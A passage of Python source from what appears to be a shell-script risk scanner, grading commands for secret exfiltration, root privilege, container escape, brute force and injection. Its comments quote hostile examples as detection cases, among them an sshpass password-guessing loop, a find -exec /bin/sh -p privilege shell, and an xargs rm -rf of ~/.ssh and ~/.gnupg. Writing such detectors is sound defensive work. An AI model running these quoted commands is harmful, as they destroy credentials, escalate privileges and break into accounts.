            a in ("0.0.0.0", "-address=0.0.0.0") for a in args
        ):
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      "cfssl serves a CA's signing API on every interface (anyone can have certificates issued)",
                      node)  # fmt: skip
        if name == "openssl" and args[:1] == ["s_server"] and any(a in ("-WWW", "-HTTP") for a in args) and (
            self._cwd in ("/", "~", "$HOME")
        ):
            self._add("shell.exposure", RiskLevel.HIGH, Category.EXFILTRATION,
                      "openssl s_server serves the whole file system over TLS", node)  # fmt: skip
        if name in ORCHESTRATOR_TOOLS:
            repeated = bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
            cluster_risk = orchestrator_command(name, args, repeated=repeated)
            if cluster_risk is not None:
                self._add("shell.orchestrator", cluster_risk.level, cluster_risk.category, cluster_risk.what, node)
            inside = allocation_command(name, args)
            if inside:
                # `nomad alloc exec ALLOC bash -c '…'`: the command runs in the job's container, as written
                self._nested(shlex.join(inside), "shell", node, "nomad alloc exec")
        if name in PRINT_TOOLS:
            repeated = bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
            endless = bool(self._loops) and any(loop.endless for loop in self._loops)
            print_risk = print_command(name, args, repeated=repeated, endless=endless)
            if print_risk is not None:
                self._add("shell.printer", print_risk.level, print_risk.category, print_risk.what, node)
        if name in BROKER_TOOLS:
            repeated = bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
            production = production_target(self._source.decode("utf-8", "replace"))
            broker_risk = broker_command(name, args, repeated=repeated, production=production)
            if broker_risk is not None:
                self._add("shell.broker", broker_risk.level, broker_risk.category, broker_risk.what, node)
        if name in REGISTRY_TOOLS:
            repeated = bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
            endless = bool(self._loops) and self._loops[-1].endless
            registry_risk = registry_command(name, args, repeated=repeated, endless=endless)
            if registry_risk is not None:
                self._add("shell.registry", registry_risk.level, registry_risk.category, registry_risk.what, node)
        if node is not None and "EVENT_PATH" in self._text(node) and _CI_EVENT_FILE.search(self._text(node)):
            flow.download = True  # the event a comment or a pull request triggered: its author wrote the text
        if name in ("node", "nodejs") and args and posixpath.basename(args[0]) in _NODE_TOOLS:
            name, args = _NODE_TOOLS[posixpath.basename(args[0])], args[1:]  # `node meshctrl.js …`: the tool itself
        rule = _COMMAND_RULES.get(name)
        if rule is None and name[-1:].isdigit() and re.sub(r"[\d.]+$", "", name) in T.OTHER_INTERPRETERS:
            name = re.sub(r"[\d.]+$", "", name)  # `lua5.4`, `ruby3.2`, `php8.2`: the interpreter by its version
            rule = _COMMAND_RULES.get(name)
        if rule is None and HOLE in name and any(a in ("-exec", "-execdir") for a in args):
            rule = _COMMAND_RULES.get("find")  # `"$FOUND" . -exec /bin/sh -p \;`: a find located at run time
        incoming_secret = flow.secret or flow.env  # from substitutions in the arguments, not the command's output
        if rule is not None:
            before = len(self.findings)
            rule(self, name, args, node, flow)
            # only a preview option written on the command itself counts (one from a variable may be unset)
            if (
                len(self.findings) > before
                and W.previews_only(name, args, self._text(node) if node else None)
                and not _applied_after_preview(node)
            ):
                self.findings[before:] = [
                    attrs.evolve(f, level=min(f.level, RiskLevel.LOW), message=f"{f.message} (a dry run)")
                    for f in self.findings[before:]
                ]
        elif name in T.DISK_TOOLS:
            self._disk_tool(name, args, node, flow)
        local_copy = name == "rsync" and not any(W.is_remote(a) for a in W.options(args)[1])  # folder to folder
        if name in T.NETWORK and not local_copy:
            flow.network = True
            self._add("shell.network", RiskLevel.LOW, Category.NETWORK, f"{name} uses the network", node)
            # (`gh secret set`, `glab variable set --masked`: a secret moved into the forge's own secret store)
            stored = (name in ("gh", "glab") and W.options(args, T.FORGE_VALUED)[1][:2] in (
                ["secret", "set"], ["variable", "set"], ["variable", "update"])) or bool(
                _STORES_SECRET.search(" ".join([name, *args])))  # fmt: skip
            if incoming_secret and not stored and name in ("curl", "wget") and self._secret_is_the_address(node):
                # `curl -X POST "$DEPLOY_HOOK"`: a webhook's address kept in a vault, called; nothing of it is sent
                self._add("shell.secret-use", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} calls the address a stored secret holds (a webhook)", node)  # fmt: skip
            elif incoming_secret and not stored and name == "curl" and node is not None and _own_login(
                self._text(node)
            ):
                self._add("shell.secret-use", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} logs in to the service a stored password is kept for", node)  # fmt: skip
            elif incoming_secret and not stored:
                self._add(
                    "shell.exfiltration",
                    RiskLevel.CRITICAL,
                    Category.EXFILTRATION,
                    f"{name} sends secret data (from a substitution) over the network",
                    node,
                )
            elif incoming_secret:
                self._add("shell.secret-use", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} stores a secret in the forge's secret store (CI variables)", node)  # fmt: skip
        if (
            (name == "curl" and any(MAILBOX_URL.match(a) for a in args))
            or (name == "kubectl" and args[:2] == ["config", "view"] and "--raw" in args)
            or prints_secrets(name, args)
        ):
            flow.secret = True  # a mailbox's messages; a kubeconfig with its tokens; stored connections
            if prints_secrets(name, args):
                # `airflow connections export /tmp/c.json`: the file holds every stored password
                self.staged.update(a for a in args[2:3] if not a.startswith("-") and a != "-")
        if prints_shared_code(name, args):
            flow.download = True  # a value anyone with access to the store chose: run, it is foreign code
        if name in ("gzip", "bzip2", "xz", "zstd", "pigz") and not {"-d", "--decompress", "-c"} & set(args):
            suffix = {"gzip": ".gz", "pigz": ".gz", "bzip2": ".bz2", "xz": ".xz", "zstd": ".zst"}[name]
            self.staged.update(a + suffix for a in args if a in self.staged)  # still the same secret data
            self._bulk_files.update(a + suffix for a in args if a in self._bulk_files)
        if (name == "trufflehog" and "--no-verification" not in args) or (
            name == "gitleaks" and "--redact" not in " ".join(args)
            and any(p in ("/dev/stdout", "-") for p in W.option_values(args, "--report-path", "-r"))
        ):
            flow.secret = True  # a secret scanner's report: each finding carries the raw secret it found
        printing = T.SECRET_PRINTERS.get(name)
        if name == "az" and "appsettings" in args and "list" in args:
            flow.secret = True  # an app's settings: its connection strings and keys
        if printing is not None and any(w in args for w in printing):
            flow.secret = True
            # a short-lived access token printed to log in with (a header, a docker login) is routine,
            # and so is one named secret read for a command (it stays secret data: sent out, CRITICAL)
            session = any(w in args for w in T.SESSION_TOKEN_WORDS) or not any(
                w in args for w in T.SECRET_DUMP_WORDS
            )
            self._add(
                "shell.secret-read",
                RiskLevel.MEDIUM if session else RiskLevel.HIGH,
                Category.EXFILTRATION,
                f"{name} {' '.join(args[:3])} prints stored secrets or tokens",
                node,
            )
        self._path_arguments(name, args, node, flow)
        return flow

    def _unset_prefix(self, name: str, args: list[str], node: Any) -> None:
        """``rm -rf "$BUILD_DIR"/``, ``chmod -R 777 "$APP_DIR"/``, ``rsync --delete … /var/www/${APP}/``: a path
        made of a variable this script never sets and nothing guards; unset or empty, it is ``/`` (or the parent)."""
        sweeping = (
            (name == "find" and "-delete" in args)
            or (name in ("chmod", "chown", "chgrp") and any(a in ("-R", "--recursive") for a in args))
            or (name == "rsync" and any(a.startswith("--delete") for a in args))
        )
        if not sweeping:
            return
        source = self._source.decode("utf-8", "replace")
        if _NOUNSET.search(source):
            return  # `set -u`: an unset variable stops the script
        for match in _VARIABLE_PATH.finditer(self._text(node)):
            var = match["var"]
            if var in self.vars or var in _ALWAYS_SET or re.search(rf"\$\{{{var}:?\?|-[zn]\s+\"?\$\{{?{var}\b", source):
                continue
            where = (match["before"] or "") or "/"
            # (`rsync --delete dist/ deploy@host:/srv/app/releases/$VERSION/`: a deploy host's release folder, not
            # this machine; empty, the other releases there go)
            remote = name == "rsync" and re.search(r"[\w.-]+:" + re.escape(where), self._text(node)) is not None
            remote = remote and len([c for c in where.split("/") if c]) >= 3  # (not `/var/www/`: every site)
            self._add("shell.delete" if name in ("find", "rsync") else "shell.chmod",
                      RiskLevel.MEDIUM if remote and where != "/" else RiskLevel.HIGH,
                      Category.FILESYSTEM if name in ("find", "rsync") else Category.PRIVILEGE,
                      f"{name} works on {where} if ${var} is unset or empty (nothing sets or checks it)",
                      node)  # fmt: skip
            return

    def _certutil(self, args: list[str], flow: _Flow) -> None:
        """Windows' certutil as a downloader (``-urlcache -f URL FILE``) and a base64 decoder (``-decode IN OUT``):
        what it writes carries where its input came from."""
        switch = [a.startswith("-") or re.fullmatch(r"//?[A-Za-z]+", a) is not None for a in args]
        switches = {a.lstrip("-/").lower() for a, is_switch in zip(args, switch, strict=True) if is_switch}
        files = [a for a, is_switch in zip(args, switch, strict=True) if not is_switch]
        if "urlcache" in switches and any("://" in a for a in files):
            flow.network = True
            self.downloaded.update((files[-1], posixpath.basename(files[-1])))
        elif switches & {"decode", "decodehex"} and len(files) >= 2:
            flow.decode = True
            if files[0] in self.downloaded or posixpath.basename(files[0]) in self.downloaded:
                self.downloaded.update((files[1], posixpath.basename(files[1])))

    def _unwrap(self, argv: list[str], node: Any, flow: _Flow) -> list[str]:
        """Strip prefix commands (sudo, env, nohup, timeout...) and report privileged ones."""
        while argv:
            name = W.base(argv[0])
            if name in ("sudo", "doas"):
                argv = [argv[0], *_split_short_flags(argv[1:], "ugCDprtUh")]  # `sudo -iu prdadm …`: -i, -u prdadm
            if name in T.PRIVILEGE_TOOLS:
                wrapped = W.skip_options(
                    argv[1:], {"-u", "-g", "-C", "-D", "-p", "-r", "-t", "-U", "-h", "--user", "--group"}
                )
                while wrapped and _ASSIGNMENT_WORD.match(wrapped[0]):
                    wrapped = wrapped[1:]  # `sudo DEBIAN_FRONTEND=noninteractive apt-get ...`: the environment
                if wrapped and W.base(wrapped[0]) == "jexec" and len(wrapped) > 2:
                    wrapped = W.skip_options(wrapped[1:], {"-u", "-U"})[1:]  # `sudo jexec JAIL CMD`: judged as CMD
                if name in ("gosu", "su-exec", "chpst") and wrapped and wrapped[0] not in ("root", "0", "root:root"):
                    # a container entrypoint handing over from root to the app's user: privileges go down
                    argv = wrapped[1:]
                    continue
                # `sudo -l` lists one's own rights; `sudo -v`/`-k` refresh or drop the cached login
                asks_only = name == "sudo" and not wrapped and any(
                    a in ("-l", "-ll", "-v", "-k", "-K", "--list", "--validate", "--reset-timestamp") for a in argv[1:]
                )
                # `sudo timeout 15 bpftrace …`: the tool inside the limit
                limited = W.unwrapped(wrapped, ("timeout", "nice", "ionice"))
                if limited and W.base(limited[0]) == "nsenter" and not _enters_host(limited[1:]):
                    # `sudo nsenter -t PID -n ss -tlnp`: a container's namespace, the inspection run in it
                    limited = W.skip_options(limited[1:], _NSENTER_VALUED)
                # a build chroot in the project (`sudo chroot build/rootfs apt-get install …`): its commands are
                # judged on their own
                chroot = wrapped if name == "chroot" else []
                if wrapped and W.base(wrapped[0]) == "chroot":
                    chroot = wrapped[1:]
                own_root = bool(chroot) and (
                    paths.classify(chroot[0]).kind in _OWN_KINDS
                    or _BUILT_ROOT.search(chroot[0].rstrip("/")) is not None  # `/srv/build/rootfs-bookworm`
                )
                # `sudo -u ec2-user -i <<'EOF' … EOF`: a login shell of that user runs the here-document
                login_script = name == "sudo" and not wrapped and self._heredoc_text is not None and any(
                    a in ("-i", "-s", "--login", "--shell") for a in argv[1:]
                )
                if login_script:
                    self._nested(self._heredoc_text or "", "shell", node, f"{name} -i script")
                other_user = any(u not in ("root", "0", "#0") for u in W.option_values(argv[1:], "-u", "--user"))
                # `sudo su - prod -c "cmk -O"`, `su - postgres -c …`: a service's account, not root, runs it
                su_argv = wrapped if wrapped and W.base(wrapped[0]) in ("su", "runuser") else argv
                service_account = W.base(su_argv[0]) in ("su", "runuser") and _su_user(su_argv[1:]) not in (
                    "", "root", "0"
                )
                installs = asks_only or own_root or (login_script and other_user) or service_account or (
                    name in ("sudo", "doas")
                    and len(wrapped) >= 1
                    and (
                        (W.base(wrapped[0]) in T.PACKAGE_MANAGERS and any(w in T.PACKAGE_ACTIONS for w in wrapped[1:3]))
                        # a package's install questions answered beforehand (what is installed is judged there)
                        or W.base(wrapped[0]) == "debconf-set-selections"
                        # restarting or checking a service, security services included (stopping one is
                        # not a routine action and keeps its own rule)
                        or (
                            W.base(wrapped[0]) in ("systemctl", "service", "supervisorctl", "launchctl", "rcctl")
                            and any(w in T.ROUTINE_SERVICE_ACTIONS for w in wrapped[1:3])
                        )
                        # the restart an upgrade asked for (`[ -f /var/run/reboot-required ] && … reboot`)
                        or (
                            (wrapped[:1] == ["reboot"] or (W.base(wrapped[0]) == "systemctl" and "reboot" in wrapped))
                            and self._reboot_required()
                        )
                        # stopping one's own service for an upgrade (security services keep their own rule)
                        or (
                            W.base(wrapped[0]) == "systemctl"
                            and wrapped[1:2] == ["stop"]
                            and (not any(sec in " ".join(wrapped[2:]) for sec in T.SECURITY_SERVICES)
                                 or self._started_again(" ".join(wrapped[2:]).lower()))
                        )
                        # file writers are graded by where they write (the write rule sees the path);
                        # administration tools with their own rules are graded by what they do
                        or W.base(wrapped[0]) in T.ROOT_FILE_WRITERS
                        or W.base(wrapped[0]) in T.GRADED_ADMIN_TOOLS
                        # a board's flash written over USB or a debug probe (what is flashed is graded there;
                        # flashrom may write this machine's own firmware)
                        or (W.base(wrapped[0]) in T.FLASH_TOOLS and W.base(wrapped[0]) != "flashrom")
                        or W.base(wrapped[0]).startswith("mkfs.")  # graded by what it formats
                        # dd onto a device the user named (checked and confirmed): graded by the target
                        or (W.base(wrapped[0]) == "dd" and _user_named_target(wrapped[1:]))
                        or (W.base(wrapped[0]), tuple(wrapped[1:])) in T.ROUTINE_ROOT_CHECKS
                        or _config_check(wrapped)
                        # `echo "show stat" | sudo socat stdio /run/haproxy/admin.sock`: a daemon's own socket asked
                        or (W.base(wrapped[0]) == "socat" and _local_socket_only(wrapped[1:]))
                        # the machine's own scripts run by hand (`run-parts /etc/update-motd.d`, `/etc/cron.daily`)
                        # `sudo sh -c "stat /etc/sudoers.d/*"`: a shell only so that a glob or a redirect runs as
                        # root, around commands that are quiet on their own
                        or self._quiet_inline_script(wrapped)
                        # macOS configuration profiles and enrolment, listed (not installed or removed)
                        or (W.base(wrapped[0]) == "profiles"
                            and wrapped[1:2] in (["status"], ["show"], ["list"], ["renew"]))
                        or (W.base(wrapped[0]) == "run-parts" and bool(W.options(wrapped[1:])[1])
                            and all(d.startswith("/etc/") for d in W.options(wrapped[1:])[1]))
                        or W.base(wrapped[0]) in T.ROOT_INSPECTORS
                        or (W.base(wrapped[0]) == "crudini" and wrapped[1:2] == ["--get"])  # a setting read
                        or (W.base(wrapped[0]) == "ipmitool" and ipmitool_reads(wrapped[1:]))
                        # an endpoint agent's status, scans, definitions and diagnostics (its tampering has a rule)
                        or (W.base(wrapped[0]) in EDR_AGENT_CLIS
                            and edr_agent_tampering(W.base(wrapped[0]), wrapped[1:]) is None)
                        or (W.base(wrapped[0]) in ("sapcontrol", "saphostctrl") and sap_control_reads(wrapped[1:]))
                        or _service_administration(wrapped)
                        or (limited != wrapped and bool(limited) and _service_administration(limited))
                        or reports_state(limited)
                        or (limited != wrapped and bool(limited) and W.base(limited[0]) in T.GRADED_ADMIN_TOOLS)
                        or W.base(wrapped[0]) in T.WEB_SERVER_SWITCHES
                        # a repository's signing key unpacked into apt's keyrings; the project's own install step
                        or (W.base(wrapped[0]) == "gpg" and "--dearmor" in wrapped)
                        # a command-line tool installed for every user (`sudo npm install -g pnpm@8`)
                        or (W.base(wrapped[0]) in ("npm", "pnpm") and wrapped[1:2] in (["install"], ["i"], ["add"])
                            and any(a in ("-g", "--global") for a in wrapped[2:])
                            and all(_REGISTRY_PACKAGE.fullmatch(a) for a in wrapped[2:] if not a.startswith("-"))
                            and "--unsafe-perm" not in wrapped)
                        or (W.base(wrapped[0]) in ("make", "ninja") and "install" in wrapped[1:])
                        # the boot menu rebuilt from its settings (what the settings hold is judged where written)
                        or W.base(wrapped[0]) in ("grub-mkconfig", "grub2-mkconfig", "update-grub", "update-grub2")
                        # the snapshot volume this script took a moment ago, dropped again
                        or (W.base(wrapped[0]) == "lvremove" and bool(self._made_volumes)
                            and all(a in self._made_volumes for a in wrapped[1:] if not a.startswith("-")))
                        or wrapped[:2] == ["cmake", "--install"]
                        # an installed application's own console (what it runs there is graded by its own rules)
                        or (W.base(wrapped[0]) in _PACKAGED_RAILS_APPS and len(wrapped) > 1)
                        # an installed application's own tool run from its folder (`cd /var/discourse; sudo
                        # ./launcher rebuild app`): what it is told is the application's business
                        or (((wrapped[0].startswith("./") and "/" not in wrapped[0][2:])
                             or (W.base(wrapped[0]) == "git" and wrapped[1:2] in (["pull"], ["fetch"], ["status"])))
                            and self._cwd is not None and _APPLICATION_HOME.match(self._cwd) is not None)
                        # a service's settings kept in git under /etc (`cd /etc/nginx/sites; sudo git pull --ff-only`)
                        or (W.base(wrapped[0]) == "git" and wrapped[1:2] in (["pull"], ["fetch"], ["status"])
                            and self._cwd is not None and self._cwd.startswith("/etc/") and self._cwd.count("/") >= 3)
                        # k3s's and RKE2's bundled tools looking, and their etcd snapshots taken or listed
                        or (W.base(wrapped[0]) in ("k3s", "rke2") and _K3S_ROUTINE.match(" ".join(wrapped[1:3])))
                        # a network lab of containers on this machine (containerlab needs root for its namespaces)
                        or (W.base(wrapped[0]) in ("containerlab", "clab")
                            and wrapped[1:2] in (["deploy"], ["inspect"], ["destroy"], ["graph"], ["save"]))
                        # a daemon told to reload or reopen its logs
                        or (W.base(wrapped[0]) in ("kill", "pkill", "killall")
                            and any(a.upper() in T.RELOAD_SIGNALS for a in wrapped[1:2]))
                        or (W.base(wrapped[0]) == "systemctl" and wrapped[1:2] == ["kill"] and any(
                            s.upper() in T.RELOAD_SIGNALS or f"-{s.upper()}" in T.RELOAD_SIGNALS
                            for s in W.option_values(wrapped[2:], "-s", "--signal")))
                        # `sudo kill "$pid"`: asked to end (TERM), graded by what it is pointed at; a stuck daemon's
                        # own pid file's process, by any signal, before the script starts it again (`sudo kill -KILL
                        # "$(cat "$PIDFILE")"` … `systemctl restart labelprintd`)
                        or (W.base(wrapped[0]) == "kill" and len(wrapped) > 1
                            and (not wrapped[1].startswith("-") or wrapped[1].upper() in ("-TERM", "-15", "-SIGTERM")
                                 or (node is not None and _FROM_PID_FILE.search(self._text(node)) is not None
                                     and _RESTARTS_SERVICE.search(self._source.decode("utf-8", "replace"))
                                     is not None)))
                        # a database dump as root (socket authentication): graded by where the dump goes
                        or W.base(wrapped[0]) in DB_DUMPERS
                        # `sudo mysql -e "SHOW GRANTS …"`: a database asked, nothing changed
                        or _reads_database_only(wrapped)
                        # a data store's or a service's own status, listing and reload commands (`rabbitmqctl
                        # list_queues`, `netdatacli reload-health`, `netdatacli aclk-state`)
                        or ((W.base(wrapped[0]) in ("nodetool", "pg_lsclusters")
                             or _SERVICE_CONTROL_TOOL.fullmatch(W.base(wrapped[0])) is not None)
                            and bool(re.match(r"(?:list_|status|cluster_status|info|ping|list\b|environment|state\b"
                                              r"|show\b|version\b|health\b|reload\b|reload-|[\w-]+-state\b)",
                                              " ".join(wrapped[1:2]))))
                        # `sudo -u postgres psql`, `sudo -u www-data php occ`: a service's own account running
                        # its tools, not root (what they do is graded by their own rules)
                        or any(u not in ("root", "0", "#0") for u in W.option_values(argv[1:], "-u", "--user"))
                        or (
                            W.base(wrapped[0]) == "rm"
                            and all(
                                (o.rstrip("*").rstrip("/") + "/").startswith(paths.PACKAGE_CACHES)
                                for o in W.options(wrapped[1:])[1]
                            )
                            and bool(W.options(wrapped[1:])[1])
                        )
                    )
                )
                self._as_root = name in ("sudo", "doas", "pkexec") and not any(
                    u not in ("root", "0", "#0") for u in W.option_values(argv[1:], "-u", "--user")
                )
                # `sudo apt-get install -y pkg` is how build set-ups install dependencies: worth a
                # look, not a block; anything else run as root is
                self._add(
                    "shell.privilege",
                    RiskLevel.MEDIUM if installs else RiskLevel.HIGH,
                    Category.PRIVILEGE,
                    f"{name} runs a routine administration step as root (packages, a service restart)"
                    if installs
                    else f"{name} runs a command with other (usually root) privileges",
                    node,
                )
                if name in ("su", "runuser"):
                    if "-c" in argv:
                        idx = argv.index("-c")
                        if idx + 1 < len(argv):
                            self._nested(argv[idx + 1], "shell", node, f"{name} -c")
                    return []
                argv = W.skip_options(
                    argv[1:], {"-u", "-g", "-C", "-D", "-p", "-r", "-t", "-U", "-h", "--user", "--group"}
                )
                while argv and _ASSIGNMENT_WORD.match(argv[0]):
                    argv = argv[1:]
                if name == "chroot" and argv:
                    argv = argv[1:]
                continue
            if name == "env":
                rest = W.skip_options(argv[1:], {"-u", "-C", "-S", "--unset", "--chdir"})
                while rest and "=" in rest[0] and not rest[0].startswith("="):
                    var, value = rest[0].split("=", 1)
                    self._check_variable(var, value, node)
                    rest = rest[1:]
                if not rest:
                    return ["printenv"]  # bare `env` prints the environment
                argv = rest
                continue
            if name == "systemd-run":
                self._rule_scheduler(name, argv[1:], node, flow)  # its timers, then the command it starts
                rest = W.skip_options(argv[1:], _SYSTEMD_RUN_VALUED)
                if not rest or rest == argv[1:]:
                    return argv
                argv = rest
                continue
            if name == "sshpass":
                tried = W.option_values(argv[1:], "-p")
                if (self._repeated or self._loops) and any(HOLE in p and p.strip(HOLE) for p in tried):
                    # `seq 1 20000 | xargs -P 300 -I{} sshpass -p 'Admin{}' ssh …`: a password per round
                    self._add("shell.brute-force", RiskLevel.HIGH, Category.NETWORK,
                              "sshpass tries a different password each round (password guessing)", node)  # fmt: skip
                argv = W.skip_options(argv[1:], {"-p", "-f", "-d", "-P"})  # the password source, then the command
                continue
            if name in SANDBOX_LAUNCHERS:
                if enters_host(name, argv[1:]):
                    self._add("shell.container-escape", RiskLevel.HIGH, Category.PRIVILEGE,
                              f"{name} enters PID 1's namespaces (from a container: the host, as root)",
                              node)  # fmt: skip
                inner = launched_command(name, argv[1:])
                if not inner:
                    return argv
                argv = inner  # the command runs as if directly: the sandbox's settings do not lessen it
                continue
            if name == "pw" and argv[1:2] in (["useradd"], ["usermod"], ["userdel"], ["groupadd"], ["groupmod"]):
                argv = argv[1:]  # FreeBSD's `pw useradd NAME -o -u 0`: useradd's options, by another front end
                continue
            if name == "jexec" and len(argv) > 2:
                # `jexec app01 service php-fpm reload`: the command, run inside a FreeBSD jail
                argv = W.skip_options(argv[1:], {"-u", "-U"})[1:]
                continue
            if name in ("timeout", "watch", "nice", "ionice", "taskset", "cpulimit"):
                argv = W.skip_options(argv[1:], {"-n", "-s", "-k", "--signal", "-c", "-p", "-l", "-d", "--interval"})
                if name in ("timeout", "taskset") and argv:
                    argv = argv[1:]
                continue
            if name in _PARALLEL_LAUNCHERS:
                # `srun -N 4 bash -c '…'`, `mpirun -np 8 ./app`: the command, run on every node given
                argv = W.skip_options(argv[1:], _PARALLEL_LAUNCHERS[name])
                continue
            if name == "start" and len(argv) > 1 and (argv[1].startswith("/") or argv[1].lower().endswith(".exe")):
                # cmd's `start /b /min PROGRAM ARGS`: PROGRAM runs (detached)
                rest = argv[1:]
                while rest and ((rest[0].startswith("/") and len(rest[0]) <= 8) or rest[0] == ""):
                    rest = rest[1:]
                argv = rest
                continue
            if name == "nix-shell" and any(a in ("--run", "--command") for a in argv[1:]):
                code = W.option_values(argv[1:], "--run", "--command")
                # `nix-shell -p bash --run CMD`: CMD runs in a shell with the packages on the PATH
                argv = ["sh", "-c", code[0]] if code else argv
                continue
            if name == "nix" and argv[1:2] == ["develop"] and any(a in ("-c", "--command") for a in argv[2:]):
                flag = next(i for i, a in enumerate(argv) if a in ("-c", "--command"))
                argv = argv[flag + 1 :] or argv  # `nix develop -c CMD ARGS`: CMD runs in the flake's shell
                continue
            if name == "bundle" and argv[1:2] == ["exec"] and len(argv) > 2:
                argv = argv[2:]  # `bundle exec rails runner …`: the gem's command in the bundle's environment
                continue
            if name in _PACKAGED_RAILS_APPS and (argv[1:2] == ["run"] or name.endswith(("-rails", "-rake"))):
                # `zammad run rails r CODE`, `gitlab-rails runner CODE`: an installed application's own console, run
                # against its live (production) database
                self._installed_app = True
                rest = argv[2:] if argv[1:2] == ["run"] else ["rails" if name.endswith("-rails") else "rake", *argv[1:]]
                if rest:
                    argv = rest
                    continue
            if name == "rails" and argv[1:2] in (["runner"], ["r"]):  # (`rails r` is runner's short name)
                rest = argv[2:]
                while rest[:1] in (["-e"], ["--environment"]) and len(rest) > 1:
                    rest = rest[2:]  # `rails runner -e production CODE`: the environment, then the code
                if rest and not rest[0].endswith((".rb", "-")):
                    argv = ["ruby", "-e", *rest]  # `rails runner CODE ARG…`: Ruby code in the application
                    continue
            if name.startswith("php") and argv[1:2] == ["-S"] and len(argv) > 2:
                # PHP's built-in web server: the document root (`-t`, else the current directory) on that address
                host = argv[2].rsplit(":", 1)[0] if ":" in argv[2] else argv[2]
                root = W.option_values(argv[3:], "-t") or [self._cwd or "."]
                if root[0] in (".", "./") and self._cwd and HOLE not in self._cwd:
                    root = [self._cwd]  # (`cd /var/www/espocrm && php -S 0.0.0.0:8099 -t .`)
                argv = ["python3", "-m", "http.server", "--bind", host or "0.0.0.0", "--directory", root[0]]
                continue
            if name.startswith("php") and argv[1:3] == ["artisan", "tinker"]:
                tinker = [a.split("=", 1)[1] for a in argv[3:] if a.startswith("--execute=")] + W.option_values(
                    argv[3:], "--execute"
                )
                if tinker:
                    argv = ["php", "-r", tinker[0]]  # `php artisan tinker --execute=CODE`: PHP in the application
                    continue
            if name in ("screen", "pm2", "tmux") and _detached_command(argv) is not None:
                if any(lp.endless and not lp.paced for lp in self._loops):
                    self._add("shell.resource", RiskLevel.HIGH, Category.RESOURCE,
                              f"{name} starts a detached program in every round of an endless loop (processes pile "
                              "up)", node)  # fmt: skip
                argv = _detached_command(argv) or []  # a detached session or a process manager: what it runs
                continue
            runner = unwrap_runner(argv)
            if runner is not None:
                # `npx rimraf DIR`, `uvx --from git+URL tool`, `uv run python -c CODE`: where the code comes
                # from, then the command the tool stands for
                if name in T.REGISTRY_CLIENTS:
                    self._package_manager(name, argv[1:], node)
                self._runner_source(runner, argv, node, flow)
                if name in ("go", "cargo"):
                    self._rule_toolchain(name, argv[1:], node, flow)  # `go run .`: the sources this script wrote
                if not runner.command:
                    return []
                argv = runner.command
                continue
            if name in ("strace", "ltrace") and any(a == "-p" or a.startswith("--attach") for a in argv[1:]):
                return argv  # attached to a running process, not wrapping a command
            if name in _SECRET_INJECTORS and argv[1:2] in (["run"], ["exec"]):
                # `doppler run -p core -c prd -- CMD`: CMD runs with the secrets in its environment
                argv = argv[argv.index("--") + 1 :] if "--" in argv else []
                if not argv:
                    return []
                continue
            if name == "lfs" and argv[1:2] == ["find"]:
                argv = argv[1:]  # Lustre's `lfs find` lists like find (the same tests, a parallel walk)
                continue
            if name in T.WRAPPERS:
                argv = argv[1:]
                while argv and argv[0].startswith("-"):
                    if name == "exec" and argv[0] == "-a" and len(argv) > 1:
                        self._masquerade(argv[1], node)
                        argv = argv[1:]
                    argv = argv[1:]
                continue
            if name == "parallel" and len(argv) > 1:
                # GNU parallel: a command template run once per input line, {} standing for the line
                rest = W.skip_options(argv[1:], {"-j", "--jobs", "-P", "-d", "--delimiter", "-a", "--arg-file",
                                                 "-S", "--sshlogin", "--joblog", "-n", "-N", "--results"})  # fmt: skip
                self._unbounded_fanout(argv[1:], ("-j", "--jobs", "-P"), node)
                listing = self._stdin_listing
                item = listing.rstrip("/") + "/" + HOLE if listing else HOLE
                if listing:
                    self._mass = True
                if self._stdin_remote:
                    self._xargs_remote = True
                template = " ".join(rest) if len(rest) != 1 else rest[0]
                argv = ["sh", "-c", template.replace("{}", item) if "{}" in template else f"{template} {item}"]
                continue
            if name == "xargs":
                self._repeated = True  # the command runs once per input item
                self._unbounded_fanout(argv[1:], ("-P", "--max-procs"), node)
                if self._stdin_remote:
                    self._xargs_remote = True  # the arguments are what a download listed
                rest = W.skip_options(
                    argv[1:],
                    {
                        "-I",
                        "-i",
                        "-n",
                        "-P",
                        "-d",
                        "-L",
                        "-a",
                        "-E",
                        "-s",
                        "--max-args",
                        "--max-procs",
                        "--delimiter",
                        "--arg-file",
                    },
                )
                listing = self._stdin_listing
                item = listing.rstrip("/") + "/" + HOLE if listing else HOLE
                if listing:
                    self._mass = True  # xargs applies the command to every listed path
                flow.every_container |= self._stdin_containers  # `docker ps -q | xargs docker rm -f`
                if self._stdin_pids is not None:
                    flow.pids_of = self._stdin_pids  # `pgrep x | xargs kill` is `kill $(pgrep x)`
                    self._xargs_pids = self._stdin_pids  # ... also through `xargs sh -c 'kill "$1"' _`
                replace = _xargs_replace(argv[1:])
                code_words = rest[rest.index("-c") + 1 :][:1] if W.base(rest[0] if rest else "") in T.SHELLS and (
                    "-c" in rest
                ) else []  # fmt: skip
                untrusted = listing is not None and paths.untrusted_inbox(listing.rstrip("/") + "/")
                if replace and (untrusted or self._stdin_remote) and any(replace in w for w in code_words):
                    # `ls /srv/uploads | xargs -I{} sh -c 'convert /srv/uploads/{} …'`: a name like `$(…)` runs
                    # (or what a server's answer lists: `curl …/docs | jq -r '.results[].label' | xargs -I{} sh -c`)
                    what = "untrusted file names" if untrusted else "what a server returned"
                    self._add("shell.injection", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                              f"xargs puts {what} into shell code (a name like $(…) runs)", node)  # fmt: skip
                # `printf '%s\n' "$HOME/.ssh" "$HOME/.gnupg" | xargs rm -rf`: the words printed are the arguments
                printed = self._stdin_text.split() if listing is None and self._stdin_text else []
                printed = printed if 0 < len(printed) <= 16 and not any(HOLE in w for w in printed) else []
                if replace and rest and any(replace in word for word in rest):
                    # xargs -I{} cmd {} ...: once per printed word (`systemctl stop a b` does what the runs do)
                    argv = [word.replace(replace, " ".join(printed) or item) for word in rest]
                else:
                    argv = (rest or ["echo"]) + (printed or [item])
                continue
            return argv
        return argv

    def _auth_backdoor(self, name: str, args: list[str], node: Any) -> None:
